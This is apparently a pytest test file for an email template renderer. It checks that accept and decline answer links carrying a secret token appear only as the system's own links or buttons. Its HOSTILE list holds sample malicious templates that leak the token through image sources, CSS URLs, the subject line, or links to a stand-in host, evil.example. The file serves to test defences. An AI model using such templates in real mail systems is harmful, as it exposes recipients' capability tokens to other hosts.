"""An answer link is a capability: a template, a tenant's override included, can put it only
where a link of ours stands, never where opening the mail would send it elsewhere."""

from __future__ import annotations

import html
import re

import pytest

from lotse_notifications import catalogue
from lotse_notifications.catalogue import LANGUAGES
from lotse_notifications.templates import (
    ANSWER_LINK_SLOTS,
    MessageFacts,
    RenderFailed,
    TemplateSource,
    check_source,
    render,
    render_source,
    sample_facts,
)

TOKEN = "secret.Token-123"
ACCEPT = f"https://matching.example/answers/{TOKEN}?choice=accept"
DECLINE = f"https://matching.example/answers/{TOKEN}?choice=decline"


def proposal_facts() -> MessageFacts:
    facts = sample_facts(catalogue.MATCH_PROPOSED)
    payload = dict(facts.payload) | {"accept_url": ACCEPT, "decline_url": DECLINE}
    return MessageFacts(**(facts.__dict__ | {"payload": payload}))


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("kind", [catalogue.MATCH_PROPOSED, catalogue.PROPOSAL_REMINDER])
def test_the_packaged_mails_carry_both_links_as_links_in_every_language(kind: str, language: str) -> None:
    facts = sample_facts(kind)
    facts = MessageFacts(**(facts.__dict__ | {"payload": dict(facts.payload) | dict(proposal_facts().payload)}))
    rendered = render(kind, [language], facts)
    hrefs = [html.unescape(href) for href in re.findall(r'href="([^"]*)"', rendered.html)]
    assert ACCEPT in hrefs and DECLINE in hrefs
    assert ACCEPT in rendered.text.split() and DECLINE in rendered.text.split()
    for stand_in in ANSWER_LINK_SLOTS.values():
        assert stand_in not in rendered.text + rendered.html + rendered.subject


HOSTILE = [
    # Opening the mail would fetch the link from elsewhere, or hand it to another host.
    pytest.param(TemplateSource("Hallo", "Hallo", '<img src="{{ accept_url }}">'), "html", id="image-source"),
    pytest.param(
        TemplateSource("Hallo", "Hallo", '<a href="https://evil.example/?u={{ accept_url }}">ja</a>'),
        "html",
        id="other-host",
    ),
    pytest.param(
        TemplateSource("Hallo", "Hallo", "<p style=\"background:url('{{ decline_url }}')\">x</p>"),
        "html",
        id="style",
    ),
    pytest.param(TemplateSource("Hallo", "https://evil.example/?{{ accept_url }}"), "text", id="text-glued"),
    pytest.param(TemplateSource("Antwort: {{ accept_url }}", "Hallo"), "subject", id="subject"),
]


@pytest.mark.parametrize(("source", "part"), HOSTILE)
def test_a_link_out_of_place_fails_the_render_and_is_refused_at_upload(source: TemplateSource, part: str) -> None:
    with pytest.raises(RenderFailed) as failed:
        render_source(catalogue.MATCH_PROPOSED, "de", source, proposal_facts())
    assert failed.value.part == part
    assert TOKEN not in str(failed.value)
    problems = check_source(catalogue.MATCH_PROPOSED, "de", source)
    assert [problem["field"] for problem in problems] == [part]


def test_an_override_may_place_the_links_as_its_own_buttons() -> None:
    source = TemplateSource(
        "Eine Anfrage",
        "Zusagen:\n{{ accept_url }}\nAbsagen: {{ decline_url }}\n",
        '<p><a class="button" href="{{ accept_url }}">Ja</a> <a href="{{ decline_url }}">{{ decline_url }}</a></p>',
    )
    rendered = render_source(catalogue.MATCH_PROPOSED, "de", source, proposal_facts())
    assert f'href="{html.escape(ACCEPT)}"' in rendered.html and f">{html.escape(DECLINE)}</a>" in rendered.html
    assert ACCEPT in rendered.text.split() and DECLINE in rendered.text.split()
    assert check_source(catalogue.MATCH_PROPOSED, "de", source) == []


def test_a_transformed_link_carries_no_token() -> None:
    # A template can change the stand-in as it likes; it never had the token to begin with.
    source = TemplateSource("Hallo", "{{ accept_url | reverse }}", '<img src="{{ accept_url | urlencode }}">')
    rendered = render_source(catalogue.MATCH_PROPOSED, "de", source, proposal_facts())
    assert TOKEN not in rendered.text + rendered.html


@pytest.mark.parametrize("language", LANGUAGES)
def test_the_html_part_shows_the_answer_links_as_labelled_buttons_not_as_addresses(language: str) -> None:
    rendered = render(catalogue.MATCH_PROPOSED, [language], proposal_facts())
    buttons = re.findall(r'<a class="button" href="([^"]*)" style="[^"]*">([^<]+)</a>', rendered.html)
    assert [html.unescape(href) for href, _ in buttons] == [ACCEPT, DECLINE]
    # The label of the text part's line ("Zusagen: <link>") without its colon, never the address.
    labels = [label for _, label in buttons]
    assert all(label.strip() and "http" not in label and not label.endswith(":") for label in labels)
    for link, label in zip((ACCEPT, DECLINE), labels, strict=True):
        assert f"{html.unescape(label)}: {link}" in rendered.text
    assert TOKEN not in re.sub(r'href="[^"]*"', "", rendered.html), "an address shown as text in the HTML part"
